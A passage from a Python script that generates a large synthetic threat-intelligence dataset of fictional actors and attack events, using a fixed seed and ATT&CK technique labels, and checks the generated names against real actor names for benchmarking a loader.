    "northern-america": ["US", "US", "US", "CA"], "western-europe": ["DE", "FR", "NL", "BE", "CH", "AT"],
    "northern-europe": ["GB", "SE", "NO", "FI", "DK", "IE"], "southern-europe": ["IT", "ES", "PT", "GR"],
    "eastern-europe": ["PL", "UA", "RO", "CZ", "HU", "BG"], "eastern-asia": ["TW", "JP", "KR", "MN", "HK"],
    "south-eastern-asia": ["VN", "PH", "ID", "MY", "SG", "TH"], "southern-asia": ["IN", "BD", "LK", "NP", "PK"],
    "western-asia": ["IL", "SA", "AE", "TR", "JO", "KW"], "central-asia": ["KZ", "UZ", "KG"],
    "south-america": ["BR", "AR", "CO", "CL", "PE"], "central-america": ["MX", "GT", "PA"],
    "northern-africa": ["EG", "MA", "DZ"], "western-africa": ["NG", "GH", "SN"], "eastern-africa": ["KE", "ET"],
    "southern-africa": ["ZA"], "australia-new-zealand": ["AU", "NZ"],
    "europe": ["DE", "GB", "FR", "NL", "PL"], "asia": ["JP", "SG", "IN"], "americas": ["US", "BR", "CA"],
    "africa": ["ZA", "NG", "KE"], "world": [],
}
REGIONS = list(REGION_COUNTRIES)
REGION_WEIGHTS = [20, 10, 8, 5, 8, 10, 8, 5, 6, 2, 3, 2, 2, 1, 1, 1, 3, 5, 3, 2, 1, 4]
KINDS = {
    "state": (["intrusion", "exploitation", "credential-attack", "phishing", "data-theft", "malware", "other"],
              [28, 22, 14, 18, 12, 5, 1]),
    "state-financial": (["insider", "data-theft", "phishing", "malware", "intrusion"], [30, 25, 25, 10, 10]),
    "state-disruption": (["intrusion", "phishing", "malware", "ddos", "other", "credential-attack"], [25, 25, 20, 10, 10, 10]),
    "ecrime": (["ransomware", "data-theft", "phishing", "credential-attack", "exploitation", "disclosure"], [40, 18, 15, 10, 14, 3]),
    "hacktivist": (["ddos", "disclosure", "other", "publication"], [60, 22, 13, 5]),
    "unknown": (["exploitation", "intrusion", "malware", "phishing"], [45, 30, 20, 5]),
}
PHRASES = {
    "intrusion": ["intrusion into the network of", "persistent access inside", "lateral movement inside"],
    "exploitation": ["exploitation of an edge appliance at", "exploitation of a public-facing web application at",
                     "exploitation of a VPN gateway at", "zero-day exploitation at"],
    "credential-attack": ["password spraying against", "brute-force logins against", "MFA fatigue attack on"],
    "phishing": ["spear-phishing aimed at staff of", "credential phishing aimed at", "voice phishing against"],
    "malware": ["backdoor found at", "loader activity at", "implant discovered at"],
    "insider": ["remote IT worker with a false identity hired by", "fraudulent contractor placed at"],
    "data-theft": ["data exfiltration from", "theft of source code from", "theft of internal documents from"],
    "ransomware": ["ransomware deployment at", "data-leak extortion against", "encryption of servers at"],
    "ddos": ["DDoS against public websites of", "DDoS against online services of"],
    "disclosure": ["leak of allegedly stolen files from", "publication of stolen emails from"],
    "publication": ["propaganda release naming", "claimed hack-and-leak of"],
    "other": ["website defacement of", "sabotage attempt against"],
}
TARGET = {s: ("an " if s[0] in "aeiou" else "a ") + s.replace("-", " ") + " organisation" for s in SECTORS_BY_TYPE["state"] + SECTORS_BY_TYPE["ecrime"]
          + SECTORS_BY_TYPE["hacktivist"] + SECTORS_BY_TYPE["unknown"]}
TARGET.update({"government": "a government ministry", "diplomacy": "a foreign ministry", "cloud": "a cloud tenant",
               "software": "a software vendor", "it-services": "a managed IT provider", "military": "a military unit",
               "defense-industrial-base": "a defence contractor", "technology": "a technology company",
               "ai-research": "an AI research lab", "semiconductors": "a chip designer", "media": "a news outlet",
               "healthcare": "a hospital group", "financial-services": "a bank", "cryptocurrency": "a crypto exchange",
               "education": "a university", "energy": "an energy utility", "oil-gas": "an oil and gas operator",
               "manufacturing": "a manufacturer", "retail": "a retailer", "logistics": "a logistics firm",
               "telecommunications": "a telecom operator", "government-local": "a city council",
               "infrastructure-water": "a water utility", "rail": "a rail operator", "gaming": "a game studio"})
ACTOR_TECHNIQUES = [
    ("Password spraying", "T1110.003"), ("Exploit public-facing application", "T1190"),
    ("Spearphishing attachment", "T1566.001"), ("Spearphishing link", "T1566.002"),
    ("Valid accounts: cloud accounts", "T1078.004"), ("Supply chain compromise", "T1195"),
    ("Trusted relationship", "T1199"), ("External remote services", "T1133"), ("Data encrypted for impact", "T1486"),
    ("Network denial of service", "T1498"), ("Exfiltration over web service", "T1567"),
    ("Steal application access token", "T1528"), ("Establish accounts", "T1585"), ("Data from cloud storage", "T1530"),
    ("Code repositories", "T1213.003"), ("Defacement", "T1491"), ("PowerShell", "T1059.001"),
    ("Scheduled task", "T1053.005"), ("OS credential dumping: LSASS memory", "T1003.001"),
    ("Remote desktop protocol", "T1021.001"), ("Web shell", "T1505.003"), ("Ingress tool transfer", "T1105"),
    ("Obfuscated files or information", "T1027"), ("DLL side-loading", "T1574.002"), ("Inhibit system recovery", "T1490"),
    ("Multi-factor authentication request generation", "T1621"), ("Email forwarding rule", "T1114.003"),
    ("Protocol tunneling", "T1572"), ("Compromise infrastructure: botnet", "T1584.005"), ("Phishing for information", "T1598"),
]
COLLECTIVE_NEXUSES = ["CN", "RU", "KP", "IR", "BY"]


def misp_names():
    if not MISP.exists():
        return None
    galaxy = json.loads(MISP.read_text(encoding="utf-8"))
    real = {}
    for value in galaxy["values"]:
        for name in [value["value"]] + list((value.get("meta") or {}).get("synonyms") or []):
            real.setdefault(re.sub(r"[\s_-]+", "", name).casefold(), value["value"])
    return real


def make_actors(rng):
    used = {}

    def unique(make):
        for _ in range(2000):
            name = make()
            if name.casefold() not in used:
                used[name.casefold()] = True
                return name
        raise RuntimeError("actor name space exhausted")

    actors = []
    for k in range(1000):
        style = rng.random()
        entry = {}
        if k < 6:  # collective entries: activity attributed to a nexus without a named actor
            nexus = COLLECTIVE_NEXUSES[k % len(COLLECTIVE_NEXUSES)]
            name = f"Unnamed {nexus}-nexus activity" + ("" if k < 5 else " (cloud)")
            kind, entry["nexus"], entry["collective"] = "state", nexus, True
        elif style < 0.62:  # CrowdStrike-style animal
            suffix, nexus, kind, _ = pick_weighted(rng, ANIMALS, [a[3] for a in ANIMALS])
            name = unique(lambda: f"{rng.choice(NAME_WORDS)} {suffix}")
            roll = rng.random()
            if nexus and roll < 0.15:
                entry["nexus"] = nexus               # explicit and matching
            elif nexus and roll < 0.17:
                entry["nexus"] = "unknown"           # the source declines to attribute
            elif nexus is None and kind == "ecrime" and roll < 0.2:
                entry["nexus"] = rng.choice(["RU", "RU", "UA", "BR", "NG", "US", "GB"])
        elif style < 0.72:  # Microsoft-style weather
            nexus = pick_weighted(rng, list(WEATHER), [30, 18, 10, 12, 3, 3, 24])
            name = unique(lambda: f"{rng.choice(MS_WORDS)} {WEATHER[nexus]}")
            kind = "ecrime" if nexus == "ecrime" else "state"
            if nexus != "ecrime" and rng.random() < 0.1:
                entry["nexus"] = nexus
        else:  # no naming convention
            form = rng.random()
            if form < 0.35:
                name = unique(lambda: f"Cluster {rng.randint(1000, 9999)}")
            elif form < 0.55:
                name = unique(lambda: f"{rng.choice(['TGX', 'KRT', 'ZQ', 'VNX', 'OBL'])}-{rng.randint(10, 999)}")
            elif form < 0.85:
                name = unique(lambda: f"{rng.choice(NAME_WORDS)} {rng.choice(['Team', 'Group', 'Collective', 'Syndicate', 'Circle', 'Crew', 'Cell'])}")
            else:
                name = unique(lambda: "".join(rng.choice(SYLLABLES) for _ in range(rng.randint(2, 3))).capitalize())
            kind = pick_weighted(rng, ["state", "ecrime", "hacktivist", "unknown"], [35, 20, 10, 35])
            roll = rng.random()
            if roll < 0.45:
                entry["nexus"] = pick_weighted(rng, ["CN", "RU", "KP", "IR", "BY", "TR", "LB", "PS", "IN", "PK", "VN",
                                                     "KR", "US", "BR"], [25, 18, 8, 12, 3, 4, 2, 3, 4, 3, 2, 2, 2, 2])
            elif roll < 0.65:
                entry["nexus"] = "unknown"
        aid = re.sub(r"[^a-z0-9]+", "-", name.lower()).strip("-")
        ordered = {"id": aid, "name": name}
        if not entry.get("collective"):
            aliases = []
            for _ in range(rng.choice([0, 0, 0, 1, 1, 2, 3])):
                aliases.append(unique(lambda: rng.choice([
                    f"Cluster {rng.randint(1000, 9999)}", f"UNK-{rng.randint(100, 999)}",
                    "".join(rng.choice(SYLLABLES) for _ in range(2)).upper(), rng.choice(CJK_ALIASES + ACCENT_ALIASES)])))
            if aliases:
                ordered["aliases"] = aliases
        if "nexus" in entry:
            ordered["nexus"] = entry["nexus"]
        ordered["type"] = kind
        if entry.get("collective"):
            ordered["collective"] = True
        if kind == "state":
            motives = pick_weighted(rng, [["espionage"], ["espionage", "disruption"], ["financial", "espionage"],
                                          ["disruption", "influence"], ["espionage", "influence"]], [60, 12, 10, 8, 10])
        elif kind == "ecrime":
            motives = ["financial"]
        elif kind == "hacktivist":
            motives = distinct(rng, ["ideology", "notoriety", "disruption"], rng.randint(1, 2))
        else:
            motives = [] if rng.random() < 0.6 else [rng.choice(["espionage", "financial"])]
        if motives:
            ordered["motivations"] = motives
        pool = SECTORS_BY_TYPE[kind]
        ordered["sectors"] = distinct(rng, pool, rng.randint(1, 6))
        ordered["regions"] = distinct(rng, REGIONS, rng.randint(1, 3), REGION_WEIGHTS)
        countries = []
        for region in ordered["regions"]:
            countries += [c for c in distinct(rng, REGION_COUNTRIES[region], rng.randint(0, 2)) if c not in countries]
        if countries:
            ordered["countries"] = countries
        techniques = distinct(rng, ACTOR_TECHNIQUES, rng.randint(0, 5))
        if techniques:
            ordered["techniques"] = [{"name": n, "attack_id": t} for n, t in techniques]
        ordered["description"] = "Synthetic actor for benchmarks; fictional name, not a real adversary."
        ordered["sources"] = [SOURCE]
        # bookkeeping for events (removed before writing)
        first = START + dt.timedelta(days=int((END - START).days * rng.random() ** 1.5 * 0.9))
        last = END if rng.random() < 0.7 else first + dt.timedelta(days=rng.randint(180, 2500))
        ordered["_active"] = (first, min(last, END))
        ordered["_weight"] = min(rng.paretovariate(1.3), 25.0)  # a few busy actors, none dominating
        ordered["_kinds"] = ("state-financial" if motives[:1] == ["financial"] and kind == "state" else
                             "state-disruption" if kind == "state" and "disruption" in motives else kind)
        ordered["_nexus"] = entry.get("nexus")
        actors.append(ordered)
    return actors


def make_events(rng, actors, total=100_000):
    weights = [a["_weight"] * (a["_active"][1] - a["_active"][0]).days ** 0.5 for a in actors]
    scale = total / sum(weights)
    shares = [w * scale for w in weights]
    counts = [int(s) for s in shares]
    rest = sorted(range(len(actors)), key=lambda i: (counts[i] - shares[i], i))
    for i in rest[:total - sum(counts)]:
        counts[i] += 1
    by_kind = {}
    for a in actors:
        by_kind.setdefault(a["type"], []).append(a)
    events = []
    for actor, count in zip(actors, counts):
        first, last = actor["_active"]
        span = max(1, (last - first).days)
        bursts = [(first + dt.timedelta(days=rng.randrange(span)), rng.randint(7, 40))
                  for _ in range(rng.randint(0, 3))]
        kinds, kind_weights = KINDS[actor["_kinds"]]
        for _ in range(count):
            if bursts and rng.random() < 0.3:
                start, length = rng.choice(bursts)
                when = min(start + dt.timedelta(days=rng.randrange(length)), END)
            else:
                # activity grows over time: later days are likelier
                when = first + dt.timedelta(days=int(span * rng.random() ** 0.7))
            kind = pick_weighted(rng, kinds, kind_weights)
            ev = {"id": None}
            length = 0
            roll = rng.random()
            if kind == "insider":
                length = rng.randint(10, 45) if rng.random() < 0.9 else rng.randint(46, 120)
            elif roll < 0.003:
                length = rng.randint(46, 200)
            elif roll < 0.15:
                length = rng.randint(1, 30)
            end = min(when + dt.timedelta(days=length), END)
            if end > when:
                ev["start"], ev["end"] = when.isoformat(), end.isoformat()
            elif rng.random() < 0.01:
                ev["date"] = f"{when.isoformat()}T{rng.randrange(24):02d}:{rng.randrange(60):02d}:{rng.randrange(60):02d}Z"
            else:
                ev["date"] = when.isoformat()
            ev["kind"] = kind
            ev["actors"] = [actor["id"]]
            if rng.random() < 0.08:
                other = rng.choice(by_kind[actor["type"]])
                if other is not actor:
                    ev["actors"].append(other["id"])
            sectors = distinct(rng, actor["sectors"], 1 if rng.random() < 0.8 else 2)
            ev["sectors"] = sectors
            region = rng.choice(actor["regions"])
            ev["regions"] = [region]
            if REGION_COUNTRIES[region] and rng.random() < 0.7:
                ev["countries"] = distinct(rng, REGION_COUNTRIES[region], 1 if rng.random() < 0.85 else 2)
            place = f" in {ev['countries'][0]}" if "countries" in ev else ""
            phrase = rng.choice(PHRASES[kind])
            ev["summary"] = f"{phrase[0].upper()}{phrase[1:]} {TARGET[sectors[0]]}{place}"
            ev["sources"] = [SOURCE]
            ev["_day"] = when.isoformat()
            events.append(ev)
    events.sort(key=lambda e: (e["_day"], e["actors"][0], e["summary"]))
    width = max(6, len(str(total)))
    for number, ev in enumerate(events, 1):
        ev["id"] = f"ev-{number:0{width}d}"
        del ev["_day"]
    return events


def scaled_actors(rng, copies):
    """The 1,000 actors `copies` times over, each copy's names and ids told apart by a number
    after the name (the naming convention, read from the last word, stays)."""
    base = make_actors(rng)
    out = []
    for k in range(copies):
        for a in base:
            c = dict(a)
            if k:
                c["id"] = f"{a['id']}-{k + 1}"
                c["name"] = f"{a['name']} {k + 1}"
                if "aliases" in a:
                    c["aliases"] = [f"{n} {k + 1}" for n in a["aliases"]]
            out.append(c)
    return out


def build_dataset(rng, actor_copies=1, total=100_000):
    actors = make_actors(rng) if actor_copies == 1 else scaled_actors(rng, actor_copies)
    events = make_events(rng, actors, total)
    for a in actors:
        for key in [k for k in a if k.startswith("_")]:
            del a[key]
    feed = {
        "schema": "threatdeck-report@1",
        "report": {
            "id": "large-benchmark-dataset",
            "title": f"SYNTHETIC benchmark dataset: {len(actors):,} actors, {total:,} events",
            "period": {"start": START.isoformat(), "end": END.isoformat()},
            "summary": "Generated by Benchmarks/generate-large-inputs.py with seed 20260331 to measure loading and "
                       "aggregation. Every actor and event is fictional; this is not intelligence.",
            "synthetic": True,
            "sources": [SOURCE],
        },
        "sources": [{"id": SOURCE, "title": "Benchmarks/generate-large-inputs.py, seed 20260331",
                     "file": "Benchmarks/generate-large-inputs.py", "note": "Synthetic data, not intelligence."}],
        "actors": actors,
        "events": events,
    }
    return feed


# --- checks and main ------------------------------------------------------------------------------

def check_bundle(bundle):
    ids = {}
    for o in bundle["objects"]:
        if o["id"] in ids:
            sys.exit(f"duplicate id {o['id']}")
        ids[o["id"]] = o
        if o.get("spec_version") != "2.1":
            sys.exit(f"{o['id']} lacks spec_version 2.1")
    refs = ("source_ref", "target_ref", "created_by_ref", "x_mitre_modified_by_ref", "x_mitre_data_source_ref")
    for o in bundle["objects"]:
        targets = [o[k] for k in refs if o.get(k)] + o.get("object_marking_refs", []) + o.get("tactic_refs", []) \
            + o.get("x_mitre_analytic_refs", []) \
            + [r["x_mitre_data_component_ref"] for r in o.get("x_mitre_log_source_references", [])]
        for t in targets:
            if t not in ids:
                sys.exit(f"{o['id']} points at missing {t}")


def check_dataset(feed):
    """Cheap structural checks; the full JSON Schema check is run separately (see the module notes)."""
    for array in ("actors", "events"):
        seen = {}
        for item in feed[array]:
            if item["id"] in seen or not re.fullmatch(r"[A-Za-z0-9][A-Za-z0-9._:-]{0,127}", item["id"]):
                sys.exit(f"{array}: bad or duplicate id {item['id']!r}")
            seen[item["id"]] = True
    actor_ids = {a["id"]: True for a in feed["actors"]}
    for ev in feed["events"]:
        if any(a not in actor_ids for a in ev["actors"]) or ("start" in ev and ev["start"] > ev["end"]):
            sys.exit(f"{ev['id']}: unknown actor or end before start")


def check_names(names):
    real = misp_names()
    if real is None:
        print(f"note: {MISP} not found; actor names were not checked against real names", file=sys.stderr)
        return
    clashes = sorted({n for n in names if re.sub(r"[\s_-]+", "", n).casefold() in real})
    if clashes:
        sys.exit("generated names equal real actor names (MISP threat-actor galaxy): " + ", ".join(clashes))


def main():
    if len(sys.argv) == 3 and sys.argv[1] == "--scale":
        # The scale target's input: 10,000 actors and 1,000,000 events (about 260 MB).
        out = Path(sys.argv[2])
        began = time.perf_counter()
        feed = build_dataset(random.Random(SEED), actor_copies=10, total=1_000_000)
        check_dataset(feed)
        out.mkdir(parents=True, exist_ok=True)
        data = json.dumps(feed, ensure_ascii=False, separators=(",", ":")).encode("utf-8")
        (out / "scale-dataset.json").write_bytes(data)
        print(f"scale-dataset.json: {len(data):,} bytes, {len(feed['actors']):,} actors, {len(feed['events']):,} events; "
              f"done in {time.perf_counter() - began:.1f} s")
        return
    if len(sys.argv) != 2 or sys.argv[1].startswith("-"):
        sys.exit("usage: python3 Benchmarks/generate-large-inputs.py [--scale] OUTDIR")
    out = Path(sys.argv[1])
    began = time.perf_counter()
    bundle = Bundle(random.Random(SEED)).build()
    check_bundle(bundle)
    feed = build_dataset(random.Random(SEED))
    check_dataset(feed)
    check_names([a for o in bundle["objects"] if o["type"] == "intrusion-set" for a in o["aliases"]]
                + [n for a in feed["actors"] for n in [a["name"]] + a.get("aliases", [])])

    out.mkdir(parents=True, exist_ok=True)
    data = bundle_text(bundle)
    (out / "attack-like-enterprise.json").write_bytes(data)
    counts, rel_counts = {}, {}
    for o in bundle["objects"]:
        counts[o["type"]] = counts.get(o["type"], 0) + 1
        if o["type"] == "relationship":
            rel_counts[o["relationship_type"]] = rel_counts.get(o["relationship_type"], 0) + 1
    types = ", ".join(f"{t} {n}" for t, n in sorted(counts.items(), key=lambda kv: (-kv[1], kv[0])))
    rels = ", ".join(f"{t} {n}" for t, n in sorted(rel_counts.items(), key=lambda kv: (-kv[1], kv[0])))
    print(f"attack-like-enterprise.json: {len(data):,} bytes, {len(bundle['objects']):,} objects ({types}); "
          f"relationships: {rels}")

    data = json.dumps(feed, ensure_ascii=False, separators=(",", ":")).encode("utf-8")
    (out / "large-dataset.json").write_bytes(data)
    spans = sum("start" in e for e in feed["events"])
    pairs = sum(len(e["actors"]) == 2 for e in feed["events"])
    print(f"large-dataset.json: {len(data):,} bytes, {len(feed['actors']):,} actors, {len(feed['events']):,} events "
          f"({spans:,} with start/end, {pairs:,} with two actors)")
    print(f"done in {time.perf_counter() - began:.1f} s")


if __name__ == "__main__":
    main()
